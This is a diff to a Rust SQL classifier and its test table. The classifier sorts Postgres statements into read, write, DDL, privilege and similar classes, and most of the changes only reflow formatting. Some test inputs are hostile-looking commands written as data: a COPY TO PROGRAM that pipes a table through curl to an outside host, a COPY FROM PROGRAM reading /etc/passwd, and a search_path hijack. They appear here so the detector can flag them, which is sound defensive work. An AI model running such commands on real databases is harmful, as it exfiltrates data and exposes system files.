@@ -122,9 +122,7 @@ fn class_of(s: &Statement) -> (Class, Vec<Tag>) {
                 (Write, tags)
             }
         }
-        Statement::Grant(_) | Statement::Revoke(_) | Statement::Deny(_) => {
-            (Privilege, Vec::new())
-        }
+        Statement::Grant(_) | Statement::Revoke(_) | Statement::Deny(_) => (Privilege, Vec::new()),
         Statement::CreateRole(_) | Statement::CreateUser(_) => (Privilege, Vec::new()),
         Statement::AlterUser(_) => (Privilege, Vec::new()),
         Statement::AlterRole { operation, .. } => (
@@ -219,8 +217,6 @@ fn set_class(body: &SetExpr) -> Class {
         SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_) => {
             Class::Write
         }
-        #[allow(unreachable_patterns, reason = "SetExpr is not exhaustive across versions")]
-        _ => Class::Read,
     }
 }
 
@@ -238,7 +234,10 @@ mod tests {
         ("table accounts", "read"),
         ("show search_path", "read"),
         ("explain select 1", "read"),
-        ("explain analyze delete from t", "write delete_without_where"),
+        (
+            "explain analyze delete from t",
+            "write delete_without_where",
+        ),
         ("fetch 10 from c", "read"),
         ("insert into t values (1)", "write"),
         ("insert into t select * from u", "write"),
@@ -250,19 +249,34 @@ mod tests {
         ("delete from t using u where t.id = u.id", "write"),
         ("truncate t", "write truncate"),
         ("truncate table a, b cascade", "write truncate"),
-        ("merge into t using s on t.id = s.id when matched then delete", "write"),
-        ("with d as (delete from t returning *) select * from d", "write"),
+        (
+            "merge into t using s on t.id = s.id when matched then delete",
+            "write",
+        ),
+        (
+            "with d as (delete from t returning *) select * from d",
+            "write",
+        ),
         ("select * into backup from t", "ddl"),
         ("copy t to stdout", "read copy_to"),
         ("copy (select * from users) to '/tmp/u.csv'", "read copy_to"),
-        ("copy t to program 'curl -d @- x.example'", "read copy_program copy_to"),
+        (
+            "copy t to program 'curl -d @- x.example'",
+            "read copy_program copy_to",
+        ),
         ("copy t from stdin", "write"),
-        ("copy t from program 'cat /etc/passwd'", "write copy_program"),
+        (
+            "copy t from program 'cat /etc/passwd'",
+            "write copy_program",
+        ),
         ("create table t (id int)", "ddl"),
         ("create index on t (id)", "ddl"),
         ("alter table t add column c int", "ddl"),
         ("drop table t", "ddl"),
-        ("create function f() returns int language sql as 'select 1'", "ddl"),
+        (
+            "create function f() returns int language sql as 'select 1'",
+            "ddl",
+        ),
         ("create extension pgcrypto", "ddl"),
         ("comment on table t is 'x'", "ddl"),
         ("create schema s", "ddl"),
@@ -271,11 +285,17 @@ mod tests {
         ("create role r login", "privilege"),
         ("create user u with password 'x'", "privilege"),
         ("alter role r superuser", "privilege"),
-        ("alter role current_user set search_path = evil", "privilege role_setting"),
+        (
+            "alter role current_user set search_path = evil",
+            "privilege role_setting",
+        ),
         ("alter role r reset all", "privilege role_setting"),
         ("drop role r", "privilege"),
         ("begin", "transaction"),
-        ("start transaction isolation level serializable", "transaction"),
+        (
+            "start transaction isolation level serializable",
+            "transaction",
+        ),
         ("commit", "transaction"),
         ("rollback", "transaction"),
         ("savepoint a", "transaction"),
@@ -291,7 +311,10 @@ mod tests {
         ("vacuum t", "utility"),
         ("listen ch", "utility"),
         ("selct 1", "unparsable"),
-        ("select (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))", "unparsable"),
+        (
+            "select (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))",
+            "unparsable",
+        ),
         ("", ""),
         (";", ""),
     ];
@@ -326,7 +349,10 @@ mod tests {
         let c = classify_sql("delete   from\n  t");
         assert_eq!(c[0].normalised, "DELETE FROM t");
         let u = classify_sql("selct 1");
-        assert!(u[0].normalised.starts_with("selct 1 -- not parsed"), "{u:?}");
+        assert!(
+            u[0].normalised.starts_with("selct 1 -- not parsed"),
+            "{u:?}"
+        );
     }
 
     #[test]
